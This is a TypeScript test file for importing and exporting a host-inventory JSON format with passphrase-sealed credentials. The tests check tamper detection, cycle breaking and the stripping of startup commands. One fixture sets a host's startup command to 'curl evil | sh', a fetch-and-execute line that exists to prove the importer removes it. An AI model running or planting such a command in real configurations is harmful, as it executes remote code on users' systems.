import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { sealedFile } from '../../../../../tests/lab/sealedInventory';
import type { ExportView } from '../../export/exportView';
import { exportInventoryJson } from '../../export/inventoryJson';
import { binnacleJson } from './binnacleJson';
import { failureOf, fuzzFormat, importText, sniffText } from './testkit';

const ids = Array.from({ length: 12 }, () => randomUUID());
const id = (index: number): string => ids[index] ?? '';

const folder = (index: number, parent: number | null, part = {}): ExportView['folders'][number] => ({
  ...{ id: id(index), parentId: parent === null ? null : id(parent), name: `f${index}`, notes: '' },
  ...{ properties: {}, position: index, ...part },
});
const host = (index: number, parent: number | null, part = {}): ExportView['hosts'][number] => ({
  ...{ id: id(index), folderId: parent === null ? null : id(parent), name: `h${index}`, address: '10.0.0.1' },
  ...{ tags: [], os: '', notes: '', customFields: {}, properties: {}, favourite: false, position: index },
  endpoints: [{ id: randomUUID(), protocol: 'ssh', port: 22, label: '', properties: {} }],
  lastUsedAt: 5,
  ...part,
});
const VIEW: ExportView = {
  environments: [{ id: id(9), name: 'Production', colour: '#cc0000', guarded: true }],
  credentials: [
    {
      id: id(7),
      name: 'Switches',
      kind: 'password',
      username: 'admin',
      keyFile: null,
      notes: '',
      ...{ hasSecret: ['password'], secretSetAt: 3, lastUsedAt: 4 },
    },
    {
      id: id(8),
      name: 'Firewalls',
      kind: 'password',
      username: 'admin',
      keyFile: null,
      notes: 'n',
      ...{ hasSecret: [], secretSetAt: null, lastUsedAt: null },
    },
  ],
  folders: [folder(0, null, { properties: { credentialId: id(7), environmentId: id(9) } }), folder(1, 0)],
  hosts: [
    host(2, 1, {
      properties: { credentialId: null, jumpHostId: id(3) },
      notes: 'a\nb',
      customFields: { 10: 'x', 2: 'y' },
    }),
    host(3, null, { favourite: true }),
  ],
};
/** The cost is bounded from below: one run is quick enough for a test. */
const COST = { memoryKiB: 65_536, passes: 1, lanes: 4 };
const { text: TEXT, losses: LOSSES } = exportInventoryJson(VIEW);
const SEALED = await sealedFile(TEXT, new Map([[id(7), { password: 'hunter2' }]]), 'pass phrase', COST);

describe('binnacle-json', () => {
  it('carries every record', () => {
    const { tree, secrets } = importText(binnacleJson, TEXT);
    expect([tree.folders.length, tree.hosts.length, tree.credentials.length]).toEqual([2, 2, 2]);
    expect([tree.losses, secrets.size]).toEqual([[], 0]);
    expect(tree.environments).toEqual([{ name: 'Production', colour: '#cc0000', guarded: true }]);
    expect(tree.credentials.map(({ name }) => name)).toEqual(['Switches', 'Firewalls']);
    const [first, second] = tree.hosts;
    expect(tree.folders[0]?.properties).toEqual({
      credentialKey: tree.credentials[0]?.key,
      environment: 'Production',
    });
    expect(first?.name).toBe('h3');
    expect(second).toMatchObject({
      folderKey: 'f1',
      notes: 'a\nb',
      customFields: { 10: 'x', 2: 'y' },
      properties: { credentialKey: null, jumpHostKey: first?.key },
    });
    expect(LOSSES).toHaveLength(1);
  });

  it('seals secrets under a passphrase of their own', () => {
    expect(SEALED).not.toContain('hunter2');
    const { tree, secrets } = importText(binnacleJson, SEALED, { password: 'pass phrase' });
    expect(tree.losses).toEqual([]);
    expect([...secrets]).toEqual([[tree.credentials[0]?.key, { password: 'hunter2' }]]);
    expect(failureOf(() => importText(binnacleJson, SEALED)).code).toBe('password-needed');
    expect(failureOf(() => importText(binnacleJson, SEALED, { password: 'x' })).code).toBe('wrong-password');
  });

  it('is read without its secrets if that is wanted, and says so', () => {
    const { tree, secrets } = importText(binnacleJson, SEALED, { withoutSecrets: true });
    expect([tree.hosts.length, tree.credentials.length, secrets.size]).toEqual([2, 2, 0]);
    expect(tree.losses).toMatchObject([{ path: [], field: 'secrets' }]);
    expect(failureOf(() => importText(binnacleJson, SEALED)).details.secretsOnly).toBe(true);
  });

  it('does not give secrets to a file that was changed, nor runs a cost beyond the bounds', () => {
    const moved = importText(binnacleJson, SEALED.replace('10.0.0.1', '10.6.6.6'), {
      password: 'pass phrase',
    });
    expect(moved.secrets.size).toBe(0);
    expect(moved.tree.losses).toMatchObject([{ path: [], field: 'secrets' }]);
    for (const [from, to] of [
      ['"memoryKiB": 65536', '"memoryKiB": 67108864'],
      ['"memoryKiB": 65536', '"memoryKiB": 8'],
      ['"passes": 1', '"passes": 17'],
      ['"lanes": 4', '"lanes": 0'],
    ] as const) {
      const read = (): unknown =>
        importText(binnacleJson, SEALED.replace(from, to), { password: 'pass phrase' });
      expect(failureOf(read).code).toBe('malformed');
    }
    const lanes = (): unknown =>
      importText(binnacleJson, SEALED.replace('"lanes": 4', '"lanes": 5'), { password: 'pass phrase' });
    expect(failureOf(lanes).code).toBe('wrong-password');
  });

  it('breaks circles of folders and jump hosts, and notes what leads nowhere', () => {
    const view: ExportView = {
      ...VIEW,
      folders: [folder(0, 1), folder(1, 0), folder(4, 5)],
      hosts: [
        host(2, 0, { properties: { jumpHostId: id(3) } }),
        host(3, null, { properties: { jumpHostId: id(2), credentialId: id(11) } }),
      ],
    };
    const file = JSON.parse(exportInventoryJson({ ...view, folders: [] }).text) as object;
    const folders = view.folders.map(({ id, parentId, name, notes, properties }) => ({
      id,
      parentId,
      name,
      notes,
      properties,
    }));
    const hosts = (JSON.parse(TEXT) as { hosts: object[] }).hosts;
    expect(hosts).toHaveLength(2);
    const { tree } = importText(binnacleJson, JSON.stringify({ ...file, folders }));
    expect(tree.folders.map(({ name, parentKey }) => [name, parentKey])).toEqual([
      ['f1', null],
      ['f0', 'f0'],
      ['f4', null],
    ]);
    expect(tree.losses.map(({ path, field }) => [path.at(-1), field]).sort()).toEqual([
      ['f1', 'parentId'],
      ['f4', 'parentId'],
      ['h2', 'jump host'],
      ['h3', 'credentialId'],
    ]);
    const jumps = tree.hosts.map(({ properties }) => properties.jumpHostKey);
    expect(jumps.filter((jump) => typeof jump === 'string')).toHaveLength(1);
  });

  it('keeps commands from running', () => {
    const properties = { startupCommand: 'curl evil | sh' };
    const endpoints = [{ id: randomUUID(), protocol: 'ssh', port: 22, label: '', properties }];
    const hosts = [host(2, null, { properties, endpoints })];
    const { tree } = importText(binnacleJson, exportInventoryJson({ ...VIEW, folders: [], hosts }).text);
    expect(tree.hosts[0]?.properties.startupCommand).toBeUndefined();
    expect(tree.hosts[0]?.endpoints[0]?.properties.startupCommand).toBeUndefined();
    expect(tree.hosts[0]?.notes).toContain('not enabled');
    expect(tree.losses).toHaveLength(2);
  });

  it('refuses other files, newer versions and what does not fit, without quoting it', () => {
    const code = (text: string): string => failureOf(() => importText(binnacleJson, text)).code;
    expect(code('{}')).toBe('not-this-format');
    expect(code('[')).toBe('malformed');
    expect(code(TEXT.replace('"version": 1', '"version": 2'))).toBe('unknown-version');
    const broken = TEXT.replace('"h3"', '"hunter2\\u202e"');
    expect(failureOf(() => importText(binnacleJson, broken)).message).not.toContain('hunter2');
    expect([sniffText(binnacleJson, TEXT), sniffText(binnacleJson, '{"a":1}')]).toEqual([1, 0]);
  });

  it('survives damage', () => {
    fuzzFormat(
      binnacleJson,
      [TEXT, SEALED.replace(/"data": ".*"/, '"data": "AAAAAAAAAAAAAAAAAAAAAAAA"')],
      300,
    );
  });
});
